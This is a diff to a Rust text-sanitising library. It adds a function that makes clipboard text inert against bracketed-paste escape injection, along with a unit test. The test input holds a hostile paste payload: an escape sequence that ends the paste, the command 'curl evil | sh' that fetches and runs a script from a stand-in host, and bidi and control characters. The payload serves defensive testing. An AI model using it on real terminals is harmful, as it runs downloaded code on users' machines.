@@ -91,6 +91,25 @@ pub fn visible_controls(s: &str) -> Cow<'_, str> {
     Cow::Owned(out)
 }
 
+/// `s` made safe to put on the clipboard: every character through the display
+/// filter ([`shown_as`]), except `\n`, which is kept so that a copied passage and
+/// its citation line stay on their own lines. A document line holding
+/// `ESC [201~ CR command CR` would otherwise end a shell's bracketed paste and
+/// run the command when the copy is pasted; here it is inert pictures.
+/// Borrows when nothing needs replacing.
+///
+/// ```
+/// use sanad::bidi::sanitize::clipboard_text;
+/// assert_eq!(clipboard_text("a\u{1b}[201~\rls\r\nb"), "a\u{241b}[201~\u{240d}ls\u{240d}\nb");
+/// ```
+pub fn clipboard_text(s: &str) -> Cow<'_, str> {
+    let lines: Vec<Cow<'_, str>> = s.split('\n').map(visible_controls).collect();
+    if lines.iter().all(|line| matches!(line, Cow::Borrowed(_))) {
+        return Cow::Borrowed(s);
+    }
+    Cow::Owned(lines.join("\n"))
+}
+
 /// Serialized JSON with every character that could steer a terminal written as a
 /// `\uXXXX` escape: DEL, C1 controls, bidi formatting characters and the line
 /// separators, which `serde_json` leaves raw (it escapes only C0). The JSON means
@@ -185,6 +204,19 @@ mod tests {
             assert_eq!(back, value);
         }
         assert!(matches!(inert_json(r#"{"a":"سلام"}"#), Cow::Borrowed(_)));
+    }
+
+    #[test]
+    fn clipboard_text_keeps_only_newlines() {
+        let pasted = "passage \u{1b}[201~\rcurl evil | sh\r\u{202e}\t\u{9b}\n— a\u{1b}.txt";
+        let safe = clipboard_text(pasted);
+        assert!(
+            !safe.chars().any(|c| c.is_control() && c != '\n'),
+            "{safe:?}"
+        );
+        assert!(!safe.chars().any(is_bidi_format), "{safe:?}");
+        assert_eq!(safe.lines().count(), 2);
+        assert!(matches!(clipboard_text("سلام\n— a.txt"), Cow::Borrowed(_)));
     }
 
     #[test]
